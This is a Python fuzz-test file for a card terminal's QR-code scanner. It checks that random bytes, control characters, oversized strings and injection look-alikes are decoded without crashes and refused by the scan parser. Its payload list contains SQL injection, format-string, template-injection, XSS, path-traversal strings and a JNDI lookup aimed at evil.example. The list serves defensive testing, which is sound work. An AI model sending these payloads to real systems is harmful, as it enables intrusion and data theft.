"""Garbage QR payloads (QUALITY.md, "Bad input"): random bytes, control characters, 2 kB
strings, SQL and format-string look-alikes, encoded as real QR codes, rendered into frames,
decoded by every engine and pushed through the confirmer and the scan parser. Nothing
crashes; what is not printable never becomes a scan; what does is refused by parse_scan
unless it is one of our tokens. And decoders take arbitrary arrays without crashing.
"""

from __future__ import annotations

import cv2
import numpy as np
import pytest
import zxingcpp
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as hnp

from terminal.domain.cards import is_qr_token, parse_scan
from terminal.domain.errors import InvalidScan
from terminal.scanner.confirm import MAX_PAYLOAD_LENGTH, Confirmer, plausible_payload
from terminal.scanner.decoders import ChainDecoder, PyzbarDecoder, ZxingDecoder, default_decoder
from terminal.scanner.frames import AcceptedScan

ZXING = ZxingDecoder()
PYZBAR = PyzbarDecoder()
ENGINES = [ZXING, PYZBAR, ChainDecoder([ZXING, PYZBAR]), default_decoder()]
ENGINES = [e for e in ENGINES if e.available]
FUZZ = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])

LOOK_ALIKES = [
    "'; DROP TABLE cards; --",
    "1' OR '1'='1",
    "LC1-' OR 1=1 --",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "LC1-AAAAAAAAAAAAAAAAAAAAAAA\x00",  # one of ours, with a NUL smuggled in
    "LC1-AAAAAAAAAAAAAAAAAAAAAAAA\r\n",  # a scanner's line ending
    "OTHERCO:card:123456789",  # another company's card
    "\u202eLC1-AAAAAAAAAAAAAAAAAAAAAAAA",  # a right-to-left override in front
]
texts_with_controls = st.text(
    alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp", "L", "N", "P"]),
    min_size=1,
    max_size=200,
)
long_texts = st.text(
    alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=1800, max_size=2048
)
payloads = st.one_of(
    st.binary(min_size=1, max_size=400),
    texts_with_controls,
    long_texts,
    st.sampled_from(LOOK_ALIKES),
    st.tuples(st.sampled_from(LOOK_ALIKES), texts_with_controls).map("".join),
)


def qr_frame(content: str | bytes) -> np.ndarray:
    """The payload as a QR code (byte mode for bytes) on a noisy grey counter, BGR."""
    barcode = zxingcpp.create_barcode(content, zxingcpp.BarcodeFormat.QRCode, ec_level="L")
    code = np.array(barcode.to_image(scale=3, add_quiet_zones=True), np.uint8)
    side = code.shape[0]
    rng = np.random.default_rng(side)
    frame = rng.normal(120, 12, (side + 80, side + 120)).clip(0, 255).astype(np.uint8)
    frame[40 : 40 + side, 60 : 60 + side] = code
    return cv2.cvtColor(frame, cv2.COLOR_GRAY2BGR)


def confirmed(texts: list[str]) -> AcceptedScan | None:
    """What the confirmer makes of two consecutive frames that read `texts`."""
    confirmer = Confirmer()
    confirmer.feed(texts, captured_at=10.0, decoded_at=10.01)
    return confirmer.feed(texts, captured_at=10.04, decoded_at=10.05)


def check_handled(texts: list[str]) -> None:
    """The texts through the confirmer, and what it accepts through parse_scan."""
    assert isinstance(texts, list)
    assert all(isinstance(t, str) for t in texts)
    scan = confirmed(texts)
    if scan is None:
        assert not any(plausible_payload(t) for t in texts)
        return
    assert plausible_payload(scan.payload)
    assert scan.payload.isprintable()
    assert len(scan.payload) <= MAX_PAYLOAD_LENGTH
    if is_qr_token(scan.payload.strip()):
        assert parse_scan(scan.payload).kind == "qr_token"
    else:
        try:
            parsed = parse_scan(scan.payload)
        except InvalidScan:
            return
        assert parsed.kind == "card_number"  # only digits with separators get this far


@FUZZ
@given(payloads)
def test_garbage_payloads_crash_nothing_and_never_become_a_non_printable_scan(
    payload: str | bytes,
) -> None:
    frame = qr_frame(payload)
    for engine in ENGINES:
        texts = engine.decode(frame)
        check_handled(texts)
        if texts == [payload] and not payload.isprintable():
            assert confirmed(texts) is None  # a faithful read of it is dropped


ascii_with_controls = st.text(
    alphabet=st.characters(max_codepoint=0x7F), min_size=1, max_size=200
).filter(lambda t: not t.isprintable())


@FUZZ
@given(ascii_with_controls)
def test_zxing_reads_control_characters_as_they_are_so_the_filter_sees_them(text: str) -> None:
    # ASCII only: a QR code without an ECI marker does not say how bytes >= 0x80 are encoded,
    # and the readers guess (a lone 0xAD, a soft hyphen in Latin-1, reads back as the
    # Shift_JIS katakana "ｭ"); what such guesses produce is covered by the test above.
    texts = ZXING.decode(qr_frame(text))
    assert texts == [text]
    assert confirmed(texts) is None


@pytest.mark.parametrize("payload", [*LOOK_ALIKES, b"\x00\xff\xfe garbage", "x" * 2048])
def test_known_garbage_is_read_by_zxing_and_refused(payload: str | bytes) -> None:
    texts = ZXING.decode(qr_frame(payload))
    assert len(texts) == 1
    check_handled(texts)
    if isinstance(payload, bytes):
        assert texts == [payload.decode("latin-1")]  # bytes come back as bytes, not as <NUL>


def test_a_10_kb_string_never_becomes_a_scan() -> None:
    # no QR code holds 10 kB (2,953 bytes at most), so only a decoder bug could produce one
    check_handled(["LC1-" + "A" * 10_000])
    assert Confirmer().feed(["x" * 10_240] * 2, captured_at=0.0, decoded_at=0.0) is None


odd_arrays = hnp.arrays(
    dtype=st.sampled_from(
        [np.uint8, np.uint16, np.int16, np.int64, np.float32, np.float64, np.bool_]
    ),
    shape=hnp.array_shapes(min_dims=0, max_dims=4, min_side=0, max_side=40),
)


@FUZZ
@given(odd_arrays)
def test_arbitrary_arrays_give_text_lists_and_no_crash(array: np.ndarray) -> None:
    for engine in ENGINES:
        texts = engine.decode(array)
        assert isinstance(texts, list)
        assert all(isinstance(t, str) for t in texts)
